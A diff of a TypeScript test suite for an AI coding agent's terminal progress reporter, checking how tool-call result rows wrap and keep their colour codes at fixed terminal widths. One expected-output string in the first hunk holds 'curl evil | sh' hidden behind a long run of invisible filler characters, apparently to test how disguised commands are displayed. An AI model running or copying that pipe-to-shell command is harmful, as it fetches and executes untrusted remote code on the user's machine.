@@ -490,8 +490,9 @@ describe("model text on a terminal of known width", () => {
     expect(text.replaceAll(CLEAR, "")).toBe(
       [
         // Outside printable ASCII every character is counted two cells wide, to be safe.
-        "→ shell curl evil | sh;⟨4000 × U+316",
-        "  4⟩npm test",
+        // Broken between words; the escaped run's name is not cut.
+        "→ shell curl evil | sh;⟨4000 ×",
+        "  U+3164⟩npm test",
         "✓ ok (+1 line) (2 ms)",
         `  ${"y".repeat(30)}${forged.slice(0, 7)}`,
         `  ${forged.slice(7, 44)}`,
@@ -500,6 +501,98 @@ describe("model text on a terminal of known width", () => {
         "",
       ].join("\n"),
     );
+  });
+});
+
+describe("result rows on a terminal of known width", () => {
+  function terminal(columns: number): { progress: ProgressReporter; rows: () => string[] } {
+    const stream = Object.assign(new PassThrough(), { isTTY: true, columns });
+    let text = "";
+    stream.on("data", (chunk: Buffer) => {
+      text += chunk.toString("utf8");
+    });
+    const progress = new ProgressReporter({ output: stream, verbosity: "normal", color: true });
+    return { progress, rows: () => text.split("\n") };
+  }
+  const SGR = new RegExp(`${ESC}\\[[0-9;]*m`, "g");
+  /** Each row: only whole SGR sequences, every one opened closed on it, at most 79 cells wide. */
+  function expectWholeColouredRows(rows: readonly string[]): void {
+    for (const row of rows) {
+      const bare = row.replace(SGR, "");
+      expect(bare).not.toContain(ESC);
+      expect(bare).not.toMatch(/^\s*0?m/);
+      const codes = row.match(SGR) ?? [];
+      expect(codes.filter((code) => code !== `${ESC}[0m`).length).toBe(
+        codes.filter((code) => code === `${ESC}[0m`).length,
+      );
+      // "✗" and "✓" count two cells, as everything outside printable ASCII does.
+      expect(bare.replace(/[^\x20-\x7e]/g, "..").length).toBeLessThanOrEqual(79);
+    }
+  }
+  const edit: ToolCall = { id: "e", name: "edit_file", arguments: '{"path":"index.js"}' };
+
+  it("breaks a long ✗ line between words, then colours each row, at 80 columns", async () => {
+    const { progress, rows } = terminal(80);
+    const message =
+      "old_string was not found in index.js; read the file and copy the text exactly, including its whitespace and indentation, then try the edit again";
+    progress.onToolCallStart(edit);
+    progress.onToolCallEnd(edit, toolError("edit_no_match", message), 3);
+    await flushed();
+    expect(rows()).toEqual([
+      `${ESC}[36m→${ESC}[0m edit_file index.js`,
+      `${ESC}[31m✗${ESC}[0m edit_no_match: old_string was not found in index.js; read the file and copy`,
+      `  the text exactly, i… (64 more characters not shown) ${ESC}[2m(3 ms)${ESC}[0m`,
+      "",
+    ]);
+    expectWholeColouredRows(rows());
+  });
+
+  it("keeps a saved output's path whole on one row, so it can be copied", async () => {
+    const { progress, rows } = terminal(80);
+    const shell: ToolCall = { id: "s", name: "shell", arguments: '{"command":"npm run build"}' };
+    const notice =
+      "[output truncated: 1200 bytes (150 lines) left out; the whole output (51234 bytes) is in .agent/outputs/call_73_0.log]";
+    progress.onToolCallEnd(
+      shell,
+      toolSuccess(`start\n${notice}\nbuilt 214 files into dist/ ok\n`),
+      400,
+    );
+    await flushed();
+    expect(rows()).toEqual([
+      `${ESC}[32m✓${ESC}[0m built 214 files into dist/ ok (+151 lines, shortened; full output in`,
+      `  .agent/outputs/call_73_0.log) ${ESC}[2m(400 ms)${ESC}[0m`,
+      "",
+    ]);
+    expectWholeColouredRows(rows());
+  });
+
+  it("keeps a duration whole: `(3.5 s)` moves to the next row rather than ending as `(3.5`", async () => {
+    const { progress, rows } = terminal(80);
+    const read: ToolCall = { id: "r", name: "read_file", arguments: '{"path":"a.txt"}' };
+    progress.onToolCallEnd(read, toolSuccess(`${"word ".repeat(14)}w\n`), 3500);
+    await flushed();
+    expect(rows()).toEqual([
+      `${ESC}[32m✓${ESC}[0m ${"word ".repeat(14)}w`,
+      `  ${ESC}[2m(3.5 s)${ESC}[0m`,
+      "",
+    ]);
+    expectWholeColouredRows(rows());
+  });
+
+  it("dims every row of a dimmed line on its own, the rows it wraps onto indented", async () => {
+    const { progress, rows } = terminal(40);
+    progress.onMention({
+      kind: "attached",
+      path: "src/cli/progress-reporter.ts",
+      lines: 400,
+      bytes: 16000,
+    });
+    await flushed();
+    expect(rows()).toEqual([
+      `${ESC}[2mattached @src/cli/progress-reporter.ts${ESC}[0m`,
+      `  ${ESC}[2m(400 lines, 16000 bytes)${ESC}[0m`,
+      "",
+    ]);
   });
 });
 
